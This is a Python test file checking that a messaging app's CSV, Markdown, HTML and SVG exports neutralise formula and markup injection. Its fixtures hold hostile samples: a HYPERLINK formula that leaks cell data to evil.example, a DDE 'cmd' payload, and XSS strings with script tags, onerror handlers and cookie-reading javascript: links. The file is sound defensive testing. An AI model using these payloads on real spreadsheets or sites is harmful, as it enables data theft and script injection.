"""Exports carry hostile text as text: CSV cells never run as spreadsheet formulas, and the
report's Markdown, HTML and SVG never carry markup, links or images from user data.

One database holds the hostile shapes where people and providers put text: the campaign's
title and owner, contacts' districts, hand-entered reach (district, who entered it), and
the error codes and details providers send back. Each export is read as its consumer reads
it: the CSVs with ``csv``, report.md through a Markdown renderer, report.html with an HTML
parser and each chart as XML.
"""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ElementTree
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from markdown_it import MarkdownIt
from sqlalchemy import Engine, select

from dispatcher import registry
from dispatcher.accounts.users import add_user
from dispatcher.audience.contacts import import_contacts
from dispatcher.cli import main
from dispatcher.config import parse_config
from dispatcher.delivery.log import COLUMNS
from dispatcher.delivery.transitions import Transition, advance
from dispatcher.files.csvfile import FORMULA_STARTS, spreadsheet_safe
from dispatcher.reach import manual as manual_reach
from dispatcher.reports.writer import markdown_text, write_report
from dispatcher.storage.db import make_engine
from dispatcher.storage.tables import deliveries
from dispatcher.testing import plan_campaign, sms_campaign_text
from dispatcher.web.app import create_app

PHONE = "+8613800138000"
# (cell as stored, cell as a CSV export writes it)
CELLS = [
    ('=HYPERLINK("https://evil.example/?d="&A1,"报告")',
     '\'=HYPERLINK("https://evil.example/?d="&A1,"报告")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1", "'+1"),
    ("-2+3", "'-2+3"),
    ("-3", "'-3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    # a line break inside: the writer quotes the cell, so no row starts at "=..."
    ("报告\r=HYPERLINK(\"https://evil.example\")", "报告\r=HYPERLINK(\"https://evil.example\")"),
    ("ok\r\n@SUM(A1)", "ok\r\n@SUM(A1)"),
    (PHONE, "'" + PHONE),  # a phone stays readable, as text, not 8.6138E+12
    ("+86 138****8000", "'+86 138****8000"),  # a masked phone
    ("丈八街道 无法送达", "丈八街道 无法送达"),  # Chinese text is left alone
    ("C_1%-x", "C_1%-x"),
    ("a=1+1", "a=1+1"),  # a formula sign inside the text is harmless
    ("'=1", "'=1"),  # already marked as text
    ("长" * 300, "长" * 300),
    ("", ""),
]


@pytest.mark.parametrize(("stored", "written"), CELLS)
def test_spreadsheet_safe_shapes(stored: str, written: str) -> None:
    assert spreadsheet_safe(stored) == written
    assert spreadsheet_safe(spreadsheet_safe(stored)) == written  # idempotent
    assert not spreadsheet_safe(stored).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", [0, -3, 1.5, None, True])
def test_spreadsheet_safe_leaves_non_text_alone(value: object) -> None:
    assert spreadsheet_safe(value) is value


# --- the database every export is written from ---------------------------------------

SCRIPT = "<script>alert(1)</script>"
MARKUP = [
    SCRIPT,
    '<img src=x onerror="alert(1)">',
    "[点我](javascript:alert(document.cookie))",
    "[x](https://evil.example/phish)",
    "![t](https://evil.example/track.png)",
    "<https://evil.example/auto>",
    "<a href=\"javascript:alert(1)\">丈八</a>",
    "| x | y |",
    "**粗** _斜_ `code` ~~del~~",
    "&lt;script&gt; &#106;avascript:",
    "鱼化寨街道_%-",
]
TITLE = "打黑除恶 <script>alert(1)</script> [x](javascript:alert(1)) ![i](https://evil.example/t.png)"
OWNER = '<img src=x onerror="alert(1)"> 宣传科 # 1. - + =1+1'
MANUAL_DISTRICT = "[丈八](javascript:alert(1)) <svg onload=alert(1)>"
MANUAL_BY = "=HYPERLINK(\"https://evil.example\") <b>王伟</b>"
DRIVE = "drive"


PEOPLE = max(len(CELLS), len(MARKUP))


def _contacts_csv() -> str:
    """A contact per shape, each district one of MARKUP (written by ``csv``: quoted)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["phone", "area", "district"])
    for i in range(PEOPLE):
        writer.writerow([f"138001380{i:02d}", "residential", MARKUP[i % len(MARKUP)]])
    return out.getvalue()


def _seed(engine: Engine) -> None:
    """Each contact's message undelivered, with a CELLS shape as the provider's error code
    and a MARKUP shape as its detail."""
    import_contacts(engine, io.StringIO(_contacts_csv()), "residents", "CN")
    plan_campaign(engine, sms_campaign_text(DRIVE, title=TITLE, owner=OWNER))
    with engine.begin() as conn:
        ids = list(conn.execute(select(deliveries.c.id).order_by(deliveries.c.target))
                   .scalars())
        assert len(ids) == PEOPLE
        advance(conn, [Transition("undelivered", delivery_id=row, code=CELLS[i][0],
                                  detail=MARKUP[i % len(MARKUP)])
                       for i, row in enumerate(ids)], actor="engine")
    manual_reach.record(engine, DRIVE, "print", "posters", 60_000, by=MANUAL_BY,
                        district=MANUAL_DISTRICT)


@pytest.fixture
def database(tmp_path: Path) -> Iterator[tuple[Engine, Path]]:
    url = f"sqlite:///{tmp_path / 'exports.db'}"
    engine = make_engine(url)
    _seed(engine)
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "{url}"\n', encoding="utf-8")
    yield engine, config
    engine.dispose()


# --- CSV: the CLI and the web export write the same guarded cells --------------------


def _cli_csv(config: Path, *extra: str) -> list[list[str]]:
    result = CliRunner().invoke(main, ["--config", str(config), "logs", "--csv", "--limit",
                                       "0", *extra])
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.stdout_bytes.decode(), newline="")))


def _web_csv(engine: Engine, role: str) -> list[list[str]]:
    add_user(engine, role, role, "correct horse battery")
    app = create_app(engine, parse_config({"web": {"public_url": "http://testserver"}}),
                     registry.build_channels({}))
    with TestClient(app, follow_redirects=False,
                    headers={"Accept-Language": "en"}) as client:
        page = client.get("/login").text
        token = re.search(r'name="csrf" value="([^"]+)"', page)
        assert token
        signed_in = client.post("/login", data={
            "name": role, "password": "correct horse battery", "csrf": token.group(1),
            "next": "/logs"})
        assert signed_in.status_code == 303, signed_in.text
        response = client.get("/logs.csv")
    assert response.status_code == 200
    assert response.text.startswith("\ufeff")  # the BOM: Excel and WPS read UTF-8
    return list(csv.reader(io.StringIO(response.text.removeprefix("\ufeff"), newline="")))


# The machine columns the checks read, as the web's people's CSV names them in English.
WEB_HEADERS = {"error_code": "Error code", "detail": "Provider's message",
               "target": "Number or address"}


def _assert_no_formula(rows: list[list[str]]) -> None:
    risky = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert risky == []


def _column(rows: list[list[str]], name: str) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


def test_cli_and_web_csv_guard_every_formula_shape(database: tuple[Engine, Path]) -> None:
    engine, config = database
    cli = _cli_csv(config, "--unmask")
    web = _web_csv(engine, "operator")  # operators see full numbers, as --unmask does
    assert cli[0] == list(COLUMNS)  # the CLI's CSV is for machines, the web's for people
    for rows, names in ((cli, {name: name for name in WEB_HEADERS}), (web, WEB_HEADERS)):
        _assert_no_formula(rows)
        assert sorted(_column(rows, names["error_code"])) == sorted(w for _, w in CELLS)
        assert sorted(set(_column(rows, names["detail"]))) == sorted(MARKUP)
        assert sorted(_column(rows, names["target"])) == [
            f"'+86138001380{i:02d}" for i in range(PEOPLE)]  # text, readable
    for column, header in WEB_HEADERS.items():  # one guard: the same cells on both paths
        assert sorted(_column(cli, column)) == sorted(_column(web, header))


def test_masked_exports_are_guarded_too(database: tuple[Engine, Path]) -> None:
    engine, config = database
    for rows, target in ((_cli_csv(config), "target"),
                         (_web_csv(engine, "planner"), WEB_HEADERS["target"])):
        _assert_no_formula(rows)
        targets = _column(rows, target)
        assert targets and all(t.startswith("'+86") and "*" in t for t in targets)
        # the guarded cell reads back as the value once the leading apostrophe is dropped
        assert all(t[1:].startswith(FORMULA_STARTS) for t in targets)


# --- report.md, report.html, charts/*.svg ---------------------------------------------


class _Markup(HTMLParser):
    """The tags and attributes of an HTML document, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse_html(html: str) -> _Markup:
    parser = _Markup()
    parser.feed(html)
    parser.close()
    return parser


def _assert_inert(parsed: _Markup, images_from: str | None = None) -> None:
    tags = [tag for tag, _ in parsed.tags]
    assert "script" not in tags
    assert "a" not in tags  # no link at all: the reports have none of their own
    assert not [(tag, name) for tag, attrs in parsed.tags for name in attrs
                if name.startswith("on")]
    images = [attrs.get("src") or "" for tag, attrs in parsed.tags if tag == "img"]
    assert all(images_from and src.startswith(images_from) for src in images), images


def _render_markdown(text: str) -> str:
    """report.md as a permissive renderer shows it: raw HTML on, every link scheme kept."""
    renderer = MarkdownIt("commonmark", {"html": True}).enable("table")
    renderer.validateLink = lambda url: True
    return renderer.render(text)


def _flat(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture
def report_dir(database: tuple[Engine, Path], tmp_path: Path) -> Path:
    engine, _ = database
    out = tmp_path / "report"
    write_report(engine, parse_config({}), DRIVE, out)
    return out


def test_report_markdown_renders_hostile_text_as_text(report_dir: Path) -> None:
    markdown = (report_dir / "report.md").read_text(encoding="utf-8")
    rendered = _parse_html(_render_markdown(markdown))
    _assert_inert(rendered, images_from="charts/")
    shown = _flat("".join(rendered.text))
    for hostile in (TITLE, OWNER, MANUAL_DISTRICT, MANUAL_BY):
        assert _flat(hostile) in shown  # the exact text the user typed, visible
    assert [tag for tag, _ in rendered.tags].count("h1") == 1
    assert "<script" not in markdown and "<img" not in markdown


def test_report_html_and_charts_escape_hostile_text(report_dir: Path) -> None:
    html = (report_dir / "report.html").read_text(encoding="utf-8")
    parsed = _parse_html(html)
    _assert_inert(parsed)
    shown = _flat("".join(parsed.text))
    for hostile in (TITLE, OWNER, MANUAL_DISTRICT, MANUAL_BY, *MARKUP):
        assert _flat(hostile) in shown
    for chart in sorted((report_dir / "charts").glob("*.svg")):
        root = ElementTree.fromstring(chart.read_text(encoding="utf-8"))  # well-formed
        elements = list(root.iter())
        assert not [e.tag for e in elements if e.tag.split("}")[-1] in (
            "script", "foreignObject", "a", "image")], chart.name
        assert not [name for e in elements for name in e.attrib if name.startswith("on")]
    coverage = ElementTree.parse(report_dir / "charts" / "coverage.svg").getroot()
    labels = {e.text for e in coverage.iter() if e.text}
    assert set(MARKUP) <= labels  # every hostile district drawn as its own text


def test_reach_csv_cells_are_guarded(report_dir: Path) -> None:
    with (report_dir / "reach.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["channel", "metric", "value", "source", "method"]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert any(MANUAL_BY in row[4] for row in rows)


@pytest.mark.parametrize("hostile", [*MARKUP, TITLE, OWNER, "a\n# injected\n<script>x",
                                     "\\[x](javascript:1)", "1. item", "--- ", "* * *"])
def test_markdown_text_renders_exactly_the_text(hostile: str) -> None:
    rendered = _parse_html(_render_markdown(f"before {markdown_text(hostile)} after\n"))
    assert [tag for tag, _ in rendered.tags] == ["p"]
    assert _flat("".join(rendered.text)) == _flat(f"before {hostile} after")
